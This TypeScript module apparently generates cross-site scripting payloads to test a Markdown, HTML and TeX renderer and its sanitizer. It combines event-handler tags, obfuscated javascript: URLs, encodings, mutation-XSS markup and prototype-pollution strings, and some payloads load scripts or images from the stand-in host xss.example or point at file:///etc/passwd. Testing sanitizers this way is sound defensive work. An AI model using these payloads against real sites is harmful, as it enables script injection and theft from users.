import naughty from "big-list-of-naughty-strings" with { type: "json" }

/**
 * Texts that run a script, or call another host, wherever they are taken for markup: the markup and script entries of
 * the Big List of Naughty Strings, and combinations of our own of tags, events, schemes, encodings and the places in
 * which Markdown and TeX carry an address. What runs calls `alert`; what is fetched comes from a host that cannot exist.
 */
export function xssPayloads(): string[] {
  const list = naughty.filter((text) => /[<>]|javascript|alert|on\w+=/i.test(text))
  const all = [...list, ...handlers(), ...addresses(), ...titles(), ...encoded(), ...fences(), ...formulas()]
  return [...new Set([...all, ...mutations])].filter((text) => text.trim() && text.isWellFormed())
}

/** The same payloads as texts of at most `bytes` bytes, a blank line between them, so that one does not hide the next. */
export function xssTexts(payloads: string[], bytes: number, between = "\n\n"): string[] {
  const texts = [""]
  for (const payload of payloads) {
    const longer = [texts.at(-1), payload].filter(Boolean).join(between)
    if (Buffer.byteLength(longer) <= bytes) texts[texts.length - 1] = longer
    else texts.push(payload)
  }
  return texts
}

const HOST = "xss.example"

const TAGS = [
  "img src=x",
  "img src=//xss.example/i",
  "svg",
  "body",
  "iframe src=x",
  "video src=x",
  "audio src=x",
  "details open",
  "input autofocus",
  "textarea autofocus",
  "object data=x",
  "embed src=x",
  "link rel=stylesheet href=x",
  "style",
  "script src=x",
  "a href=#x",
  "form id=x",
  "button autofocus",
  "marquee",
  "p tabindex=0 autofocus",
]
const EVENTS = [
  "onload",
  "onerror",
  "onfocus",
  "onclick",
  "onmouseover",
  "ontoggle",
  "onbegin",
  "onstart",
  "onpointerenter",
  "onanimationstart",
  "ontransitionend",
  "onpageshow",
  "onwheel",
  "oncopy",
  "onbeforetoggle",
  "onscrollend",
]

/** Every tag with every event, written in turn as tags are written to get past filters. */
function handlers(): string[] {
  const spellings = [
    (tag: string, event: string) => `<${tag} ${event}=alert(1)>`,
    (tag: string, event: string) => `<${tag} ${event}="alert(1)"></${tag.split(" ")[0]}>`,
    (tag: string, event: string) => `<${tag.replaceAll(" ", "/")}/${event}=alert\`1\`//`,
    (tag: string, event: string) => `"'><${tag.toUpperCase()}\t${event.toUpperCase()} = 'alert(1)'>`,
    (tag: string, event: string) => `<${tag}\n${event}=&#97;lert(1)\n>`,
  ]
  return cross(TAGS, EVENTS).map(([tag, event], at) => turnOf(spellings, at)(tag, event))
}

const SCRIPT_URL = "javascript:alert(1)"
const BASE64_PAGE = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
const URLS = [
  SCRIPT_URL,
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\u200bscript:alert(1)",
  "java\u00adscript:alert(1)",
  "ｊavascript:alert(1)",
  "javascript\t:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "&#0000106avascript:alert(1)",
  "javascript&colon;alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "javascript&#58;alert&lpar;1&rpar;",
  "%6Aavascript:alert(1)",
  "javascript%3Aalert(1)",
  "java\\script:alert(1)",
  "javascript\\:alert(1)",
  "javascript://%0aalert(1)",
  `javascript://${HOST}/%0aalert(1)`,
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  BASE64_PAGE,
  "data:image/svg+xml,<svg/onload=alert(1)>",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "file:///etc/passwd",
  "https:javascript:alert(1)",
  `//${HOST}/x`,
  `\\\\${HOST}/x`,
  `https://${HOST}/x`,
  `https://${HOST}/"onmouseover="alert(1)`,
  `https://${HOST}/'><img src=x onerror=alert(1)>`,
  `mailto:a@${HOST}?subject="><script>alert(1)</script>`,
]

const CARRIERS: ((url: string, at: number) => string)[] = [
  (url) => `[words](${url})`,
  (url) => `[words](<${url}>)`,
  (url) => `[words](${url} "title")`,
  (url) => `![words](${url})`,
  (url) => `[![words](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => url,
  (url, at) => `[words][r${at}]\n\n[r${at}]: ${url}`,
  (url, at) => `![r${at}]\n\n[r${at}]: <${url}> 'title'`,
  (url) => `| [a](${url}) | ![b](${url}) |\n|-|:-:|\n| <${url}> | ${url} |`,
  (url) => `- [words](${url})\n  1. ![words](${url})`,
  (url) => `> # [words](${url})`,
  (url) => `**~~[words](${url})~~**`,
  (url) => `<a href="${url}">words</a>`,
  (url) => `<img src="${url}" srcset="${url} 2x">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button formaction="${url}">send</button></form>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<object data="${url}"><embed src="${url}"></object>`,
  (url) => `<svg><a xlink:href="${url}"><image href="${url}" /></a></svg>`,
  (url) => `<math href="${url}"><mtext>words</mtext></math>`,
  (url) => `<link rel="preload" as="image" href="${url}"><link rel="prefetch" href="${url}">`,
  (url) => `<p style="background:url('${url}')">words</p><style>@import '${url}';</style>`,
  (url) => `<video poster="${url}"><source src="${url}"></video><a ping="${url}" href="#x">words</a>`,
  (url) => `$$\\href{${url}}{x}$$`,
  (url) => `\\(\\url{${url}}\\)`,
  (url) => `\\[\\includegraphics[width=1em]{${url}}\\]`,
]

function addresses(): string[] {
  return cross(URLS, CARRIERS).map(([url, carrier], at) => carrier(url, at))
}

const BREAKS = [
  `" onmouseover=alert(1) x="`,
  `' onfocus='alert(1)' autofocus x='`,
  `\\" onmouseover=alert(1) x=\\"`,
  "&quot; onmouseover=alert(1) x=&quot;",
  `"><img src=x onerror=alert(1)>`,
  "'><svg onload=alert(1)>",
  "</a><script>alert(1)</script>",
  "`-alert(1)-`",
]

/** Words that try to leave the attribute or element they are put in. */
function titles(): string[] {
  return BREAKS.flatMap((words) => [
    words,
    `[words](https://${HOST} "${words}")`,
    `[words](https://${HOST} '${words}')`,
    `[words](https://${HOST} (${words}))`,
    `![${words}](https://${HOST}/i.png "${words}")`,
    `[${words}](https://${HOST})`,
    `|${words}|\n|:-:|\n|${words}|`,
    `#### ${words}`,
  ])
}

const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<a href="${SCRIPT_URL}">words</a>`,
  `<img src="https://${HOST}/i.png">`,
]

/** Markup in the guises in which something might be decoded once too often. */
function encoded(): string[] {
  const each = (text: string, write: (code: number) => string) =>
    text.replace(/[<>"'=:()/]/g, (letter) => write(letter.charCodeAt(0)))
  const hex = (code: number, digits: number) => code.toString(16).padStart(digits, "0")
  const guises: ((text: string) => string)[] = [
    (text) => each(text, (code) => `&#${code};`),
    (text) => each(text, (code) => `&#x${hex(code, 4)}`),
    (text) => each(text, (code) => `&amp;#${code};`),
    (text) => each(text, (code) => `\\x${hex(code, 2)}`),
    (text) => each(text, (code) => `\\u${hex(code, 4)}`),
    (text) => each(text, (code) => `%${hex(code, 2)}`),
    (text) => each(text, (code) => `%25${hex(code, 2)}`),
    (text) => each(text, (code) => String.fromCharCode(0xfee0 + code)),
    (text) => each(text, (code) => `+${Buffer.from([0, code]).toString("base64").replace(/=+$/, "")}-`),
    (text) => each(text, (code) => `\\${String.fromCharCode(code)}`),
    (text) => text.replaceAll("<", "<\u200b"),
    (text) => text.replaceAll("<", "<<"),
    (text) => `\u202e${text}\u202c`,
    (text) => `\u2028${text}\u2029`,
    (text) => text.toUpperCase(),
    (text) => `<!-->${text}<!-- -->`,
    (text) => `<![CDATA[${text}]]>`,
    (text) => `<?xml ${text} ?>`,
    (text) => `</title></textarea></style></noscript></template>${text}`,
    (text) => `</script>${text}`,
    (text) => `\`${text}\``,
    (text) => `    ${text}`,
    (text) => `<div>\n${text}\n</div>`,
    (text) => `\${${text}}{{${text}}}<%= ${text} %>`,
  ]
  return cross(MARKUP, guises).map(([text, guise]) => guise(text))
}

const LANGUAGES = [
  "html",
  "xml",
  "javascript",
  "css",
  "markdown",
  "php",
  "__proto__",
  "constructor",
  "toString",
]

function fences(): string[] {
  const infos = [...LANGUAGES, ...BREAKS.map((words) => words.replaceAll("`", "")), ...MARKUP, SCRIPT_URL]
  return cross(infos, MARKUP).map(([info, text], at) => {
    const fence = turnOf(["```", "~~~", "`````"], at)
    return `${fence}${info}\n${text}\n${fence}`
  })
}

/** TeX that puts words, styles, attributes or addresses into what is drawn. */
function formulas(): string[] {
  const inner = [...MARKUP, ...BREAKS, SCRIPT_URL, `red;background:url(https://${HOST}/c)`]
  const commands: ((text: string) => string)[] = [
    (text) => `\\text{${text}}`,
    (text) => `\\operatorname{${text}}`,
    (text) => `\\color{${text}}x`,
    (text) => `\\colorbox{${text}}{x}`,
    (text) => `\\fcolorbox{${text}}{${text}}{x}`,
    (text) => `\\class{${text}}{x}\\htmlClass{${text}}{x}`,
    (text) => `\\id{${text}}{x}\\htmlId{${text}}{x}`,
    (text) => `\\style{${text}}{x}\\htmlStyle{${text}}{x}`,
    (text) => `\\data{onclick=${text}}{x}\\htmlData{x=${text}}{x}`,
    (text) => `x\\tag{${text}}\\label{${text}}\\ref{${text}}`,
    (text) => `\\def\\a{${text}}\\a \\unicode{${text}}`,
    (text) => `\\begin{array}{c}${text}\\end{array}`,
    (text) => `\\char"3C script\\char"3E \\verb|${text}|`,
  ]
  const delimiters = [
    ["$$", "$$"],
    ["\\[", "\\]"],
    ["\\(", "\\)"],
    ["$", "$"],
  ] as const
  return cross(inner, commands).map(([text, command], at) => {
    const [open, close] = turnOf(delimiters, at)
    return open + command(text) + close
  })
}

/** Markup that becomes harmful only when a browser writes out and reads again what a filter let through. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg><foreignObject><iframe srcdoc="<img src=x onerror=alert(1)>"></iframe></foreignObject></svg>`,
  `<svg><animate attributeName=href values=${SCRIPT_URL} /><a id=x><rect width=9 height=9 /></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x" />`,
  `<template><script>alert(1)</script></template><select><template><img src=x onerror=alert(1)></template></select>`,
  `<base href="https://${HOST}/"><script src="a.js"></script>`,
  `<form id=document><input name=cookie><img name=getElementById></form>`,
  `<div popover id=x onbeforetoggle=alert(1)></div><button popovertarget=x autofocus>words</button>`,
  `<object type="text/x-scriptlet" data="https://${HOST}/x"></object>`,
  `<isindex action=${SCRIPT_URL} type=image>`,
  `<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>`,
  "{{constructor.constructor('alert(1)')()}}",
  `__proto__[srcdoc]=<script>alert(1)</script>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}`,
  `</script><script>self.__next_f.push([1,"alert(1)"]);alert(1)</script>`,
  `<link rel="dns-prefetch" href="//${HOST}"><link rel="preconnect" href="https://${HOST}">`,
]

function cross<One, Other>(ones: readonly One[], others: readonly Other[]): [One, Other][] {
  return ones.flatMap((one) => others.map((other): [One, Other] => [one, other]))
}

function turnOf<Item>(items: readonly Item[], at: number): Item {
  return items[at % items.length] as Item
}
